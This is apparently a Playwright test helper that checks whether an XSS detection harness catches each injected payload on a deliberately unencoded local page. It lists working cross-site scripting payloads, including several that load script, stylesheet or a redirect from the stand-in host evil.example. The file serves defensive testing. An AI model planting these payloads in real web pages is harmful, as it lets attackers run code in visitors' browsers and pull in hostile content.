import { setTimeout as pause } from 'node:timers/promises';
import type { Browser } from '@playwright/test';
import { XSS_PAYLOADS } from './PAYLOADS.ts';
import { watchHits } from './watchHits.ts';

const ORIGIN = 'http://localhost:1';
const GIVE_UP_MS = 30_000;
const LOOK_EVERY_MS = 20;

/** Payloads that need no quote, script or address around them, and what each one achieves in a page without encoding. */
const RUN_UNENCODED: [payload: string, hit: RegExp][] = [
  ['<script>alert(1)</script>', /code ran/],
  ['<img src=x onerror=alert(1)>', /code ran/],
  ['<svg onload=alert(1)>', /code ran/],
  ['<iframe srcdoc="<script>parent.alert(1)</script>">', /code ran/],
  ['<details open ontoggle=alert(1)>', /code ran/],
  ['<script src=//evil.example/x.js></script>', /a request to http:\/\/evil\.example/],
  ['<link rel=stylesheet href=//evil.example/x.css>', /a request to http:\/\/evil\.example/],
  ['<meta http-equiv=refresh content="0;url=//evil.example/">', /a navigation to http:\/\/evil\.example/],
];

/**
 * Checks the detection itself: on a page that shows its input as HTML each payload has to be detected.
 * @returns a line for each payload that was not detected
 */
export async function findUnnoticedPayloads(browser: Browser): Promise<string[]> {
  const unnoticed: string[] = [];
  for (const [payload, hit] of RUN_UNENCODED) {
    const context = await browser.newContext();
    const watch = await watchHits(context, ORIGIN);
    await context.route(`${ORIGIN}/**`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<title>A page without encoding</title><p>${payload}` }),
    );
    watch.begin(payload);
    const page = await context.newPage();
    // A payload that navigates away ends the load.
    await page.goto(`${ORIGIN}/`).catch(() => undefined);
    const isNoticed = () => hit.test(watch.hits.join('\n'));
    for (let waited = 0; waited < GIVE_UP_MS && !isNoticed(); waited += LOOK_EVERY_MS) await pause(LOOK_EVERY_MS);
    if (!isNoticed()) unnoticed.push(`unnoticed on a page without encoding: ${payload}`);
    if (!XSS_PAYLOADS.includes(payload)) unnoticed.push(`not among the payloads: ${payload}`);
    await context.close();
  }
  return unnoticed;
}
